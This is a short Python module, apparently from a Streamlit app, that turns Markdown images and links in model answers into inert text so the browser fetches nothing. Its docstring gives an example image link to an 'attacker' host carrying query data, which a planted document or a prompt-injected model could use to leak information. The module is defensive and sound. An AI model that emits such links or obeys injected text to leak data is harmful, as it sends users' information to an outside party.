"""Answers (written by a model, or quoted from documents) shown as Markdown without fetching anything.

Streamlit renders no raw HTML, but Markdown images load their URL as soon as the answer is drawn: a document
or a prompt-injected model could plant ``![](https://attacker/?q=...)`` to have the browser call out. Images
become their alt text with the address shown as text; links keep their text and show their address, not
clickable. Everything else (bold, lists, code) renders as written.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REFERENCE = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|javascript|data):[^>\s]*)>", re.IGNORECASE)


def _shown(address: str) -> str:
    return "`" + address.replace("`", "'") + "`" if address else ""


def inert_markdown(text: str) -> str:
    """``text`` with Markdown images and links turned into plain text (nothing is fetched or clickable)."""
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'} {_shown(m.group(2))}]".replace("  ", " "), text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({_shown(m.group(2))})" if m.group(2) else m.group(1), text)
    text = _REFERENCE.sub(lambda m: _shown(m.group(0).strip()), text)
    return _AUTOLINK.sub(lambda m: _shown(m.group(1)), text)
